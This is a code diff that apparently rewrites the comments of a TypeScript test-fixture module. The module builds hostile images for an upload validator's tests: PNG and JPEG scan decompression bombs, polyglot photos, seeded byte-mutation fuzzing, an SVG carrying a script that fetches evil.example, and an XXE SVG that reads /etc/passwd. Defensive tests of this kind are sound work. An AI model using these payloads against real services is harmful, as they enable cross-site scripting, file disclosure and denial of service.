@@ -1,8 +1,8 @@
-/** Pictures as attackers send them: other kinds of files, bombs, files that are two things, and broken ones. */
+/** Malicious pictures: other file types, bombs, polyglots and corrupted files. */
 import { deflateSync } from "node:zlib";
 import sharp from "sharp";
 
-/** A JPEG with some grain, as photos have. */
+/** A JPEG with noise like a photo. */
 function aPhoto({ width = 400, height = 300 } = {}): Promise<Buffer> {
   const noise = { type: "gaussian", mean: 120, sigma: 20 } as const;
   return sharp({ create: { width, height, channels: 3, background: "red", noise } })
@@ -27,13 +27,13 @@ function pngChunk(type: string, content: Buffer): Buffer {
 }
 
 type Png = {
-  /** How many of its rows are really there. */
+  /** The number of rows that really exist. */
   rows?: number;
-  /** 16 bits for each of four channels instead of black and white; and all rows are sent seven times over. */
+  /** 16-bit RGBA instead of black and white, and all rows repeated seven times. */
   deepAndInterlaced?: boolean;
 };
 
-/** A PNG in black, of few bytes whatever its size. */
+/** A black PNG of few bytes in any size. */
 export function aPng(width: number, height: number, { rows = height, deepAndInterlaced }: Png = {}): Buffer {
   const header = Buffer.alloc(13);
   header.writeUInt32BE(width);
@@ -48,7 +48,7 @@ export function aPng(width: number, height: number, { rows = height, deepAndInte
   return Buffer.concat([Buffer.from("\x89PNG\r\n\x1a\n", "latin1"), ...parts]);
 }
 
-/** Bytes of the seven passes of Adam7, at 8 bytes a pixel and one for each row. */
+/** Bytes of the seven Adam7 passes, at 8 bytes a pixel and one for each row. */
 function interlacedRows(width: number, height: number): number {
   const passes = [
     [0, 0, 8, 8],
@@ -77,7 +77,7 @@ export function aScanBomb(scans: number, side = 6304): Buffer {
   const zeros = (count: number) => Array<number>(count).fill(0);
   const blocks = Math.ceil(side / 8) ** 2;
   const runs = Math.ceil(blocks / 32_767);
-  // Runs of blocks without a change, in 15 bits each: the first of all bits says that a run follows.
+  // Runs of unchanged blocks, in 15 bits each: the first bit says that a run follows.
   let bits = "";
   for (let run = 0, left = blocks; run < runs; run += 1) {
     const length = Math.max(16_384, Math.min(left, 32_767));
@@ -102,7 +102,7 @@ export function aScanBomb(scans: number, side = 6304): Buffer {
   ]);
 }
 
-/** The same picture turned around, frame after frame. */
+/** The same picture rotated, frame by frame. */
 export async function anAnimation(format: "webp" | "gif", frames = 3): Promise<Buffer> {
   const photo = await aPhoto({ width: 24, height: 24 });
   const turned = Array.from({ length: frames }, (_, at) =>
@@ -121,7 +121,7 @@ export const SCRIPT = "<script>fetch('//evil.example')</script>";
 const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${SCRIPT}</svg>`;
 const XXE = `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY f SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&f;</text></svg>`;
 
-/** The head of a HEIF container, as iPhones write it ("heic") and as AVIF has it. */
+/** The header of a HEIF container, as in HEIC and AVIF. */
 const ftyp = (brand: string) =>
   Buffer.concat([
     Buffer.from([0, 0, 0, 24]),
@@ -129,7 +129,7 @@ const ftyp = (brand: string) =>
     Buffer.alloc(200),
   ]);
 
-/** A bitmap as Windows writes it: 2 × 2 pixels of 24 bits. */
+/** A Windows bitmap: 2 × 2 pixels of 24 bits. */
 function aBmp(): Buffer {
   const bmp = Buffer.alloc(54 + 16, 200);
   bmp.fill(0, 0, 54);
@@ -147,7 +147,7 @@ function aBmp(): Buffer {
   return bmp;
 }
 
-/** What is no single whole JPEG, PNG or WebP within the limits, by what it is. */
+/** Files other than one complete JPEG, PNG or WebP within the limits. */
 export async function refusedFiles(): Promise<[string, Uint8Array][]> {
   const photo = await aPhoto();
   const [png, webp] = await Promise.all([sharp(photo).png().toBuffer(), sharp(photo).webp().toBuffer()]);
@@ -179,7 +179,7 @@ export async function refusedFiles(): Promise<[string, Uint8Array][]> {
   ];
 }
 
-/** Photos that are something else as well, with `SCRIPT` in them: a browser that sniffs would run it. */
+/** Polyglot photos with `SCRIPT` in them: a sniffing browser would run it. */
 export async function polyglots(): Promise<Buffer[]> {
   const photo = await aPhoto();
   const text = Buffer.from(SCRIPT);
@@ -198,7 +198,7 @@ export async function polyglots(): Promise<Buffer[]> {
   ];
 }
 
-/** Numbers from 0 to 1 that are the same for the same seed (mulberry32). */
+/** Seeded random numbers from 0 to 1 (mulberry32). */
 function numbers(seed: number): () => number {
   let state = seed;
   return () => {
@@ -209,7 +209,7 @@ function numbers(seed: number): () => number {
   };
 }
 
-/** Photos with bytes changed, cut out, doubled or exchanged between kinds; the same ones for the same seed. */
+/** Photos with bytes changed, removed, doubled or mixed between types; deterministic by seed. */
 export async function* mutatedPictures(count: number, seed: number): AsyncGenerator<Buffer> {
   const next = numbers(seed);
   const below = (limit: number) => Math.floor(next() * limit);
@@ -224,7 +224,7 @@ export async function* mutatedPictures(count: number, seed: number): AsyncGenera
     else if (kind === 2) yield Buffer.concat([one.subarray(0, at), one.subarray(below(one.length))]);
     else if (kind === 3) yield Buffer.concat([one.subarray(0, at), other.subarray(below(other.length))]);
     else {
-      // Sometimes in the head only, where sizes and counts stand.
+      // Sometimes only in the header, which contains sizes and counts.
       const reach = kind < 7 ? Math.min(one.length, 400) : one.length;
       const changes = 1 + below(kind < 7 ? 20 : 1000);
       for (let change = 0; change < changes; change += 1) one[below(reach)] = below(256);
